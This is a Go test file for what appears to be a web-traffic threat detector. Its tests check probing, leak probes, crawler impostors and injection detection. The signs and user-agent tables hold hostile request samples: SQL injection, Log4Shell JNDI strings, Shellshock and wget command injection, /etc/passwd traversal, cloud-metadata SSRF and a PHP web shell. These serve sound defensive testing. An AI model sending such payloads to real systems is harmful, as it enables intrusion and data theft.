package engine

import (
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"
)

const browser = "Mozilla/5.0 (X11; Linux x86_64) Firefox/130.0"

// visit is a request without a key, of a browser unless it says otherwise.
func (p *play) visit(client, method, path string, status int, signs Signs) []Finding {
	p.next++
	folded, _ := Fold(path)
	x := Exchange{Request: Request{ID: p.next, At: p.at, Method: method, Path: path, Folded: folded, UserAgent: browser, Signs: signs}, Status: status}
	x.Client = netip.MustParseAddr(client)
	return p.Observe(x)
}

// readers come to a site and read what there is, with what the pages draw in.
func (p *play) readers(n int) {
	for i := range n {
		for _, path := range []string{"/", "/style.css", "/docs/intro.html", "/docs/limits.html"} {
			p.visit(fmt.Sprintf("10.20.%d.%d", i/200, i%200+1), "GET", path, 200, Referred)
		}
		p.wait(time.Second)
	}
}

func TestWhatScannersAskForIsFoundAndWhatPeopleMistypeIsNot(t *testing.T) {
	for name, c := range map[string]struct {
		method, path string
		status       int
		signs        Signs
		rule         string // none for silence
	}{
		"a sign-in page of other software":     {"GET", "/wp-login.php", 404, 0, "foreign-software"},
		"the same, said to come from a page":   {"GET", "/blog/wp-admin/", 404, Referred, "foreign-software"},
		"an installer, sent elsewhere":         {"GET", "/vendor/phpunit/phpunit/eval-stdin.php", 301, 0, "foreign-software"},
		"a hidden file":                        {"GET", "/.env", 404, 0, "leak-probe"},
		"a dump":                               {"GET", "/backup.sql", 404, 0, "leak-probe"},
		"SQL":                                  {"GET", "/docs/intro.html", 200, Injection, "injection"},
		"an admin page by a usual name":        {"GET", "/admin", 404, 0, "unknown-software"},
		"a program of a kind never served":     {"POST", "/x/rare.asp", 404, 0, "unknown-software"},
		"another host":                         {"GET", "/other", 404, Relayed, "proxy-abuse"},
		"an admin page that a page links to":   {"GET", "/admin", 404, Referred, ""},
		"a well-known path":                    {"GET", "/.well-known/security.txt", 404, 0, ""},
		"an icon":                              {"GET", "/apple-touch-icon.png", 404, 0, ""},
		"a typing error":                       {"GET", "/docs/intro.htm", 404, 0, ""},
		"a dead link":                          {"GET", "/old/page.php", 404, Referred, ""},
		"a page of this site in the long form": {"GET", "/docs/intro.html", 200, Relayed, ""},
		"an archive beside others":             {"GET", "/docs/all.old", 404, 0, ""},
	} {
		p := newPlay(t)
		p.readers(warm + 2)
		found := strong(p.visit(stray, c.method, c.path, c.status, c.signs))
		switch {
		case c.rule == "" && len(found) > 0:
			t.Errorf("%s: found %s", name, found[0].Rule)
		case c.rule != "" && (len(found) != 1 || found[0].Rule != c.rule):
			t.Errorf("%s: found %v, want %s", name, found, c.rule)
		}
	}
}

const stray = "192.0.2.77"

func TestTheSixthRouteThatNeverWasIsProbing(t *testing.T) {
	p := newPlay(t)
	p.readers(warm)
	for n := range 5 {
		p.finds(p.visit(stray, "GET", fmt.Sprintf("/thing%c/page", 'a'+n), 404, 0))
	}
	p.finds(p.visit(stray, "GET", "/thinga/page", 404, 0)) // the first again
	found := strong(p.visit(stray, "GET", "/thingf/page", 404, 0))
	p.finds(found, "probing")
	if f := found[0]; f.Count != 6 || len(f.Seen) != 6 || f.Decision == nil || f.Decision.Action != Block {
		t.Errorf("found %+v", f)
	}
}

func TestProbingCountsWhatCameInTheVeryFirstSecond(t *testing.T) {
	p := newPlay(t)
	var found []Finding
	for n := range 6 {
		found = strong(p.visit(stray, "GET", fmt.Sprintf("/thing%c/page", 'a'+n), 404, 0))
	}
	p.finds(found, "probing")
}

func TestDeadLinksAndSlowScansOfOneDirectoryAreNoProbing(t *testing.T) {
	p := newPlay(t)
	p.readers(warm)
	for n := range 30 {
		p.finds(p.visit(stray, "GET", fmt.Sprintf("/linked%c/page", 'a'+n%20), 404, Referred))
		p.finds(p.visit(stray, "GET", fmt.Sprintf("/docs/gone%c.html", 'a'+n%20), 404, 0))
		p.finds(p.visit("192.0.2.78", "GET", fmt.Sprintf("/far%c/page", 'a'+n%20), 404, 0))
		p.wait(3 * time.Minute)
	}
}

func TestWhereSoftwareIsAtHomeNobodyIsSuspectedForIt(t *testing.T) {
	p := newPlay(t)
	for n := range warm {
		p.visit(fmt.Sprintf("10.21.0.%d", n+1), "GET", "/wp-login.php", 200, 0)
	}
	p.finds(p.visit(stray, "GET", "/wp-admin/gone.php", 404, 0))
	p.finds(p.visit(stray, "POST", "/wp-login.php", 302, 0))
}

func TestACrawlerFromItsOwnNetworkIsLeftAloneAndAnImpostorIsNot(t *testing.T) {
	p := newPlay(t)
	p.readers(warm)
	ask := func(client string) []Finding {
		p.next++
		x := Exchange{Request: Request{
			ID: p.next, At: p.at, Method: "GET", Path: "/wp-login.php", Folded: "/wp-login.php",
			UserAgent: "Mozilla/5.0 (compatible; Googlebot/2.1)",
		}, Status: 404}
		x.Client = netip.MustParseAddr(client)
		return p.Observe(x)
	}
	if found := ask("66.249.64.7"); found != nil {
		t.Errorf("the crawler itself: %v", found)
	}
	p.finds(ask("192.0.2.80"), "foreign-software")
}

func TestNobodyTeachesTheSiteAlone(t *testing.T) {
	p := newPlay(t)
	s := p.regime.Load().sources.site
	for n := range 500 {
		p.visit(stray, "GET", fmt.Sprintf("/made%c%c/up", 'a'+n%26, 'a'+n/26%26), 200, 0)
	}
	if n := s.fill().Held; n > 3*mostLearned {
		t.Errorf("one source taught %d things in one go", n)
	}
	if n := s.sources(p.tick(p.at)); n > 1 {
		t.Errorf("one source counts as %v", n)
	}
	flagged := "192.0.2.90"
	p.finds(p.visit(flagged, "GET", "/.env", 404, 0), "leak-probe")
	before := s.fill().Held
	for n := range 10 {
		p.visit(flagged, "GET", fmt.Sprintf("/other%c/up", 'a'+n), 200, 0)
	}
	if s.fill().Held != before {
		t.Error("the site learns from whom something was found about")
	}
}

func TestWhatGoodSourcesCarryWeighsLittle(t *testing.T) {
	p := newPlay(t)
	p.readers(100)
	found := p.visit(stray, "GET", "/.env", 404, 0)
	p.finds(found, "leak-probe")
	weights := map[TokenKind]float32{}
	for _, k := range found[0].Tokens {
		weights[k.Kind] = k.Weight
	}
	if w := weights[TokenUserAgent]; w > 0.1 {
		t.Errorf("everybody's user agent weighs %v", w)
	}
	if w := weights[TokenRoute]; w < 0.9 {
		t.Errorf("a route that nobody good asks for weighs %v", w)
	}
}

func TestTheInventoryHoldsWhatIsServed(t *testing.T) {
	p := newPlay(t)
	p.readers(3)
	p.visit("10.22.0.1", "GET", "/accounts/4711", 200, 0)
	p.visit("10.22.0.2", "GET", "/accounts/4712", 200, 0)
	p.visit("10.22.0.2", "GET", "/never", 404, 0)
	for _, e := range p.Inventory() {
		if e.Route == "/accounts/{id}" && e.Method == "GET" && e.Requests == 2 && e.Statuses[2] == 2 {
			return
		}
		if e.Route == "/never" {
			t.Error("what was never served is in the inventory")
		}
	}
	t.Errorf("accounts are not in %v", p.Inventory())
}

// As where routes come from an OpenAPI file, and a path is not in it.
func TestWhatTheEdgeHasNoTemplateForIsNotAllOne(t *testing.T) {
	p := newPlay(t)
	p.readers(3)
	for n := range 3 {
		for _, path := range []string{"/hidden/export", "/hidden/users/77"} {
			p.exchange(fmt.Sprintf("10.22.0.%d", n), Request{Path: path, Route: "(other)", UserAgent: browser}, 200)
		}
	}
	routes := map[string]bool{}
	for _, e := range p.Inventory() {
		routes[e.Route] = true
	}
	if !routes["/hidden/export"] || !routes["/hidden/users/{id}"] || routes["(other)"] {
		t.Errorf("the inventory holds %v", routes)
	}
}

func TestWhatWasLearnedOutlivesAChangeOfCrawlers(t *testing.T) {
	p := newPlay(t)
	p.readers(warm)
	was := p.Inventory()
	p.revise(func(p *Policy) { p.Crawlers, _ = ParseCrawlers("ours examplebot 203.0.113.0/24") })
	if is := p.Inventory(); len(was) == 0 || len(is) != len(was) {
		t.Errorf("%d endpoints are known, not %d", len(is), len(was))
	}
	crawler := Request{Client: netip.MustParseAddr("203.0.113.9"), UserAgent: "Mozilla/5.0 (compatible; ExampleBot/2)"}
	if g := p.regime.Load(); !g.sources.verifies(&crawler) {
		t.Error("a crawler that was added is not known")
	}
}

func TestPublishedCrawlersCanBeRead(t *testing.T) {
	if all := PublishedCrawlers(); len(all) < 12 {
		t.Errorf("%d crawlers", len(all))
	}
	for _, bad := range []string{"name claim", "name claim 10.0.0.0/33"} {
		if _, err := ParseCrawlers(bad); err == nil {
			t.Errorf("%q is read", bad)
		}
	}
}

func TestSignsAreReadAndOddButHonestQueriesShowNone(t *testing.T) {
	for _, c := range []struct {
		path, query, referer string
		want                 Signs
	}{
		{"/a", "id=1%20union%20select%20password%20from%20users", "", Injection},
		{"/a", "id=1'/**/UNION/**/SELECT/**/1,2", "", Injection},
		{"/a", "name=x'%20or%20'1'='1", "", Injection},
		{"/a", "x=${jndi:ldap://e/a}", "", Injection},
		{"/a", "x={{7*7}}", "", Injection},
		{"/a", "login=$(echo${IFS}aWQ=|base64${IFS}-d)", "", Injection},
		{"/a", "ip=1.1.1.1;wget%20http://e/x", "", Injection},
		{"/a", "f=..%2f..%2fetc/passwd", "", Traversal},
		{"/../../x", "", "", Traversal},
		{"/a", "q=%3Cscript%3Ealert(1)", "", Scripted},
		{"/a", "u=http://169.254.169.254/latest", "", Foreign},
		{"http://other.example/", "", "", Relayed},
		{"other.example:443", "", "", Relayed},
		{"/a", "", "https://r.example/b", Referred},
		{"/a", "", "https://r.example/a", Returned},
		{"/a", "", "${jndi:ldap://e/a}", Injection},
		{"/a", "", "() { :;}; /bin/bash -c id", Injection},
		{"/a", "", "https://r.example/?q=${jndi:ldap://e/a}", Referred},
		{"/a", "", "android-app://com.example.reader/", Referred},
		{"/a", "", "about:blank", 0},
		{"/a", "", "O'Reilly", 0},
		{"/a", "id=1%2527%2520union%2520select%25201,2", "", Injection},
		{"/scripts/..%c0%af../x", "", "", Traversal},
		{"/" + strings.Repeat("\x90\x02\xb1\x02", 40), "", "", Injection},
		{"/" + strings.Repeat("\x90", 40), "", "", Injection},
		{"/" + strings.Repeat("\xb0\xa1\xc4\xe3", 20), "", "", 0}, // GBK
		{"/%D0%BD%D0%BE%D0%B2%D0%BE%D1%81%D1%82%D0%B8/k%F6nig", "", "", 0},
		{"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x11\x12\x13\x14\x15\x16\x17", "", "", 0},
		{"/a", "q=union+select+committee", "", 0},
		{"/a", "name=O'Reilly+and+sons", "", 0},
		{"/a", "redirect_uri=http://localhost:3000/callback&state=a%2Bb", "", 0},
		{"/a", "return=../home", "", 0},
		{"/a", "filter=price%3E10%20and%20size%3C3", "", 0},
		{"/users/{{id}}", "sort=name;id", "", 0},
		{"/graphql", "query={user{id}}", "", 0},
	} {
		if got := ReadSigns(c.path, c.query, c.referer); got != c.want {
			t.Errorf("%s?%s from %q: %b, want %b", c.path, c.query, c.referer, got, c.want)
		}
	}
}

func TestUserAgentThatIsCodeAccusesAndOneThatIsOddDoesNot(t *testing.T) {
	for agent, want := range map[string]Signs{
		"${jndi:ldap://198.18.7.7:1389/a}":                         Injection,
		"Mozilla/5.0 ${jndi:${lower:l}dap://e/x}":                  Injection,
		"() { :;}; /bin/bash -c \"wget http://e/x\"":               Injection,
		"<?php system($_GET[0]); ?>":                               Injection,
		"Mozilla/5.0 (X11; Linux x86_64; rv:148.0) Gecko/20100101": 0,
		"Jack's reader {1.2} <jack@example.net> | beta":            0,
		"'; DROP TABLE": Injection,
		"":              0,
	} {
		if got := ReadAgent(agent); got != want {
			t.Errorf("%s: %b, want %b", agent, got, want)
		}
	}
}

func TestWhatComesLateOverMidnightBeginsNoNewDay(t *testing.T) {
	r := &visitor{}
	at := func(ms int64) *view { return &view{now: ms} }
	r.note(at(dayLong + 5))
	r.told[sawProbing], r.marks = 77, counted
	r.note(at(dayLong - 5))
	if r.told[sawProbing] != 77 || r.marks&counted == 0 {
		t.Error("a late request made what was told news again")
	}
	r.note(at(2 * dayLong))
	if r.told[sawProbing] != 0 || r.marks&counted != 0 {
		t.Error("a new day began, and yesterday's was kept")
	}
}

func TestDataIsAFormWhereItIsSentAndAnsweredAsFormsAre(t *testing.T) {
	for name, c := range map[string]struct {
		readers int // who sent the form before
		path    string
		status  int
		signs   Signs
		key     Key
		bare    bool
	}{
		"as the forms of others are":      {formsFrom, "/contact", 303, Data, Key{}, true},
		"a form itself":                   {0, "/contact", 303, 0, Key{}, true},
		"where too few sent a form":       {formsFrom - 1, "/contact", 303, Data, Key{}, false},
		"where nobody sends forms":        {formsFrom, "/api/orders", 303, Data, Key{}, false},
		"by a client that gets an answer": {formsFrom, "/contact", 201, Data, Key{}, false},
		"by an app that signs in":         {formsFrom, "/login", 303, Data, Key{}, false},
		"by a client with a key":          {formsFrom, "/contact", 303, Data, key("shop"), false},
	} {
		p := newPlay(t)
		p.readers(warm)
		for n := range c.readers {
			p.visit(fmt.Sprintf("10.20.0.%d", n+1), "POST", "/contact", 303, Referred|Returned)
			p.visit(fmt.Sprintf("10.20.0.%d", n+1), "POST", "/login", 303, Referred|Returned)
		}
		_, found := p.exchange(stray, Request{Method: "POST", Path: c.path, UserAgent: "sender/1.0", Signs: c.signs, Key: c.key}, c.status)
		if got := slices.ContainsFunc(found, func(f Finding) bool { return f.Rule == barePost.ID && f.Weak }); got != c.bare {
			t.Errorf("data %s: found %v", name, found)
		}
	}
}
